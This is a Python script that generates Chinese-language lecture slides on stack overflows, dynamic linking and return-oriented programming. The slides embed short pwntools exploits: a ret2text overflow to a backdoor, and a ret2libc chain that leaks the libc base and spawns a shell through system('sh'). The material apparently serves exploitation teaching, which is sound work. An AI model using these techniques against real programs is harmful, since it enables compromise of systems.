


from dataclasses import dataclass
from typing import NamedTuple

from lxml.etree import SubElement
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.shapes import MSO_CONNECTOR, MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR, PP_ALIGN
from pptx.oxml.ns import qn
from pptx.util import Inches, Pt


@dataclass(frozen=True)
class Theme:
    latin: str = "Arial"
    chinese: str = "Noto Sans CJK SC"
    band: str = "3C3C3C"
    black: str = "000000"
    white: str = "FFFFFF"
    outline: str = "595959"
    flow: str = "3A4950"
    kernel: str = "666666"
    cream: str = "FFF2CC"
    library: str = "EEEEEE"
    green: str = "D9EAD3"
    orange: str = "FFDDB3"
    pink: str = "F4CCCC"
    target: str = "E48080"
    purple: str = "D9D2E9"
    blue: str = "CFE2F3"
    emphasis: str = "FF0000"
    title_size: float = 20
    heading_size: float = 24
    body_size: float = 18
    section_size: float = 18.7
    gadget_size: float = 10.5
    code_gap: float = 21.6
    thin: float = 0.75
    thick: float = 1.5


THEME = Theme()
SLIDE_WIDTH = 13.33
MEMORY_WIDTH = 4.25
CELL_HEIGHT = 0.45


class Segment(NamedTuple):
    height: float
    fill: str
    label: str = ""
    color: str = THEME.black


class Target(NamedTuple):
    top: float
    label: str
    height: float = 0.31
    size: float = THEME.body_size


class Line(NamedTuple):
    start: tuple[float, float]
    end: tuple[float, float]
    arrow: bool = False
    color: str = THEME.flow
    weight: float = THEME.thin


class Label(NamedTuple):
    left: float
    top: float
    text: str


class Cell(NamedTuple):
    text: str
    fill: str


class Topic(NamedTuple):
    name: str
    details: list[tuple[str, bool]]


def format_span(span, size: float, color: str, font: str, bold: bool = False) -> None:
    span.font.size = Pt(size)
    span.font.bold = bold
    span.font.color.rgb = RGBColor.from_string(color)
    span.font.name = font
    SubElement(span._r.get_or_add_rPr(), qn("a:ea")).set("typeface", THEME.chinese)


def set_margins(frame, horizontal: float, vertical: float) -> None:
    frame.word_wrap = True
    frame.margin_left = frame.margin_right = Inches(horizontal)
    frame.margin_top = frame.margin_bottom = Inches(vertical)


def add_text(page, left: float, top: float, width: float, height: float, lines: list[str],
             size: float = THEME.body_size, color: str = THEME.black, font: str = THEME.latin,
             bold: bool = False, centered: bool = False, margins: tuple[float, float] = (0.1, 0.05)):
    box = page.shapes.add_textbox(Inches(left), Inches(top), Inches(width), Inches(height))
    frame = box.text_frame
    set_margins(frame, *margins)
    frame.vertical_anchor = MSO_ANCHOR.MIDDLE if centered else MSO_ANCHOR.TOP
    frame.text = "\n".join(lines)
    for para in frame.paragraphs:
        para.alignment = PP_ALIGN.CENTER if centered else PP_ALIGN.LEFT
        for span in para.runs:
            format_span(span, size, color, font, bold)
    return box


def add_box(page, left: float, top: float, width: float, height: float, fill: str, label: str = "",
            color: str = THEME.black, size: float = THEME.body_size, line: str = THEME.outline,
            weight: float = THEME.thin) -> None:
    box = page.shapes.add_shape(MSO_SHAPE.RECTANGLE, Inches(left), Inches(top), Inches(width), Inches(height))
    box.shadow.inherit = False
    box.fill.solid()
    box.fill.fore_color.rgb = RGBColor.from_string(fill)
    box.line.color.rgb = RGBColor.from_string(line)
    box.line.width = Pt(weight)
    if label:
        frame = box.text_frame
        set_margins(frame, 0.1, 0.1)
        frame.vertical_anchor = MSO_ANCHOR.MIDDLE
        frame.text = label
        frame.paragraphs[0].alignment = PP_ALIGN.CENTER
        format_span(frame.paragraphs[0].runs[0], size, color, THEME.latin)


def add_line(page, line: Line) -> None:
    points = [Inches(value) for value in (*line.start, *line.end)]
    connector = page.shapes.add_connector(MSO_CONNECTOR.STRAIGHT, *points)
    connector.line.color.rgb = RGBColor.from_string(line.color)
    connector.line.width = Pt(line.weight)
    properties = connector._element.spPr
    if line.arrow:
        SubElement(properties.find(qn("a:ln")), qn("a:tailEnd")).set("type", "triangle")
    SubElement(properties, qn("a:effectLst"))


def add_page(deck, title: str):
    page = deck.slides.add_slide(deck.slide_layouts[6])
    add_box(page, 0, 0.01, SLIDE_WIDTH, 0.44, THEME.band, line=THEME.band, weight=2)
    add_text(page, 0, 0.01, 6.17, 0.44, [title], THEME.title_size, THEME.white, THEME.chinese)
    return page


def add_code(page, left: float, top: float, width: float, height: float, blocks: list[list[str]]) -> None:
    lines = [line for block in blocks for line in block]
    box = add_text(page, left, top, width, height, lines, font=THEME.chinese)
    index = 0
    for block in blocks[:-1]:
        index += len(block)
        box.text_frame.paragraphs[index].space_before = Pt(THEME.code_gap)


def add_memory(page, left: float, top: float, library: str, bss_height: float, text_height: float,
               targets: list[Target]) -> None:
    segments = [
        Segment(0.51, THEME.kernel, "For Kernel", THEME.white),
        Segment(1.01, THEME.cream),
        Segment(0.65, THEME.white),
        Segment(0.84, THEME.library, library),
        Segment(0.77, THEME.white),
        Segment(0.52, THEME.green, "Heap"),
        Segment(bss_height, THEME.orange, "Bss"),
        Segment(0.52, THEME.pink, "Data"),
        Segment(text_height, THEME.cream),
        Segment(0.52, THEME.kernel, "Unused", THEME.white),
    ]
    y = top
    for segment in segments:
        add_box(page, left, y, MEMORY_WIDTH, segment.height, segment.fill, segment.label, segment.color)
        y += segment.height
    for target in targets:
        add_box(page, left, target.top, MEMORY_WIDTH, target.height, THEME.target,
                target.label, THEME.outline, target.size)
    middle = left + MEMORY_WIDTH / 2
    add_line(page, Line((middle, top + 1.52), (middle, top + 1.73), True, THEME.outline))
    add_line(page, Line((middle, top + 3.78), (middle + 0.02, top + 3.15), True, THEME.outline))


def add_labels(page, labels: list[Label]) -> None:
    for label in labels:
        add_text(page, label.left, label.top, 0.94, 0.4, [label.text])


def add_cells(page, left: float, top: float, width: float, cells: list[Cell]) -> None:
    for row, cell in enumerate(cells):
        add_box(page, left, top + row * CELL_HEIGHT, width, CELL_HEIGHT, cell.fill, cell.text,
                size=THEME.section_size)


def add_bullet(para, symbol: str, indent: float) -> None:
    properties = para._p.get_or_add_pPr()
    properties.set("marL", str(Inches(indent)))
    properties.set("indent", str(Inches(-0.46)))
    color = SubElement(properties, qn("a:buClr"))
    SubElement(color, qn("a:srgbClr")).set("val", THEME.black)
    SubElement(properties, qn("a:buFont")).set("typeface", THEME.latin)
    SubElement(properties, qn("a:buChar")).set("char", symbol)


def add_topics(page, topics: list[Topic]) -> None:
    box = add_text(page, 7.92, 2.87, 4.76, 3.67, [], margins=(0.13, 0.13))
    frame = box.text_frame
    for index, topic in enumerate(topics):
        para = frame.add_paragraph() if index else frame.paragraphs[0]
        para.text = topic.name
        add_bullet(para, "●", 0.67)
        format_span(para.runs[0], THEME.section_size, THEME.black, THEME.latin)
        detail = frame.add_paragraph()
        detail.level = 1
        add_bullet(detail, "○", 1.33)
        for text, strong in topic.details:
            span = detail.add_run()
            span.text = text
            format_span(span, THEME.body_size, THEME.emphasis if strong else THEME.black, THEME.chinese, strong)


def build_ret2text(deck) -> None:
    page = add_page(deck, "栈溢出基础 | ret2text")
    left = 7.03
    add_memory(page, left, 0.44, "shared libraries", 0.36, 1.13,
               [Target(1.48, "ret_addr = backdoor_addr"), Target(6.14, "backdoor in ELF")])
    add_labels(page, [Label(11.45, 1.11, "Stack"), Label(11.54, 5.98, "Text")])
    add_line(page, Line((left, 1.63), (0, 1.63)))
    add_line(page, Line((0, 6.29), (left, 6.29), True))
    add_code(page, 1.74, 2.59, 3.35, 2.52, [
        ["from pwn import *"],
        [
            'io = process("./ret2text")',
            "io.recv()",
            "payload = b'A'*16 + b'B'*4 + p32(0x8048522)",
            "io.sendline(payload)",
            "io.interactive()",
        ],
    ])


def build_dynamic_linking(deck) -> None:
    page = add_page(deck, "返回导向编程 | 动态链接过程")
    add_text(page, 0, 1.63, 2.97, 0.7, ["动态链接相关结构"], THEME.heading_size,
             font=THEME.chinese, margins=(0.13, 0.13))
    add_cells(page, 0.92, 3.47, 1.81,
              [Cell(name, THEME.green) for name in (".dynamic", ".got", ".got.plt", ".data")])
    add_cells(page, 3.93, 3.14, 2.78, [
        *[Cell(name, THEME.purple) for name in ("addr of .dynamic", "link_map", "dl_runtime_resolve")],
        *[Cell(name, THEME.blue) for name in ("printf@plt + 6", "puts")],
    ])
    brace = page.shapes.add_shape(MSO_SHAPE.LEFT_BRACE, Inches(3.5), Inches(3.36), Inches(0.38), Inches(1.83))
    brace.adjustments[0] = 0.08
    brace.adjustments[1] = 0.67
    brace.shadow.inherit = False
    brace.fill.background()
    brace.line.color.rgb = RGBColor.from_string(THEME.outline)
    brace.line.width = Pt(THEME.thick)
    add_line(page, Line((3.93, 3.37), (2.73, 3.7), True, THEME.outline, THEME.thick))
    add_line(page, Line((2.73, 4.59), (3.5, 4.58), False, THEME.outline, THEME.thick))
    for label in (Label(1.12, 2.98, "sections"), Label(4.6, 2.71, ".got.plt")):
        add_text(page, label.left, label.top, 1.45, 0.33, [label.text], THEME.section_size,
                 bold=True, centered=True, margins=(0.13, 0.13))
    add_topics(page, [
        Topic(".dynamic section", [("提供动态链接相关信息", False)]),
        Topic("link_map", [("保存进程载入的动态链接库的", False), ("链表", True)]),
        Topic("__dl_runtime_resolve",
              [("装载器中用于解析动态链接库中函数的", False), ("实际地址", True), ("的函数", False)]),
    ])


def build_ret2libc3(deck) -> None:
    page = add_page(deck, "返回导向编程 | ret2libc3")
    left = 7.49
    right = left + MEMORY_WIDTH
    gadgets = [Target(top, "gadget", 0.15, THEME.gadget_size) for top in (5.93, 6.22, 6.48)]
    add_memory(page, left, 0.65, "", 0.31, 0.98,
               [Target(1.68, "ret_addr = gadget_addr"), Target(3.14, "system()"), *gadgets])
    add_labels(page, [Label(11.91, 1.32, "Stack"), Label(12.38, 3.04, "Libc"), Label(12.38, 6.06, "Text")])
    for line in (
        Line((left, 1.84), (0, 1.84)),
        Line((0, 6.56), (left, 6.56), True),
        Line((right, 6.56), (SLIDE_WIDTH, 6.56)),
        Line((SLIDE_WIDTH, 6.01), (right, 6.01), True),
        Line((left, 6.01), (6.97, 6.01)),
        Line((6.97, 6.01), (6.97, 6.29)),
        Line((6.97, 6.29), (left, 6.29), True),
        Line((right, 6.29), (12.26, 6.29)),
        Line((12.26, 6.29), (12.26, 3.29)),
        Line((12.26, 3.29), (right, 3.29), True),
    ):
        add_line(page, line)
    add_code(page, 0.31, 0.65, 6.93, 6.46, [
        ["from pwn import *"],
        [
            'io = process("./ret2libc3")',
            'elf = ELF("./ret2libc3")',
            'libc = ELF("./libc-2.31.so")',
        ],
        [
            "# Give me an address (in dec) :",
            'io.sendlineafter(b" :", str(elf.got["puts"]))',
            "# The content of the address : %p\\n",
            'io.recvuntil(b" : ")',
            'libcBase = int(io.recvuntil(b"\\n", drop=True), 16) - libc.symbols["puts"]',
        ],
        [
            'success("libcBase => {:#x}".format(libcBase))',
            'payload = flat(cyclic(60), libcBase + libc.symbols["system"], 0xdeadbeef, '
            'next(elf.search(b"sh\\x00")))',
        ],
        [
            "# Leave some message for me :",
            'io.sendlineafter(b" :", payload)',
        ],
        ["io.interactive()"],
    ])


def main() -> None:
    deck = Presentation()
    deck.slide_width = Inches(SLIDE_WIDTH)
    deck.slide_height = Inches(7.5)
    build_ret2text(deck)
    build_dynamic_linking(deck)
    build_ret2libc3(deck)
    deck.save("out.pptx")


if __name__ == "__main__":
    main()
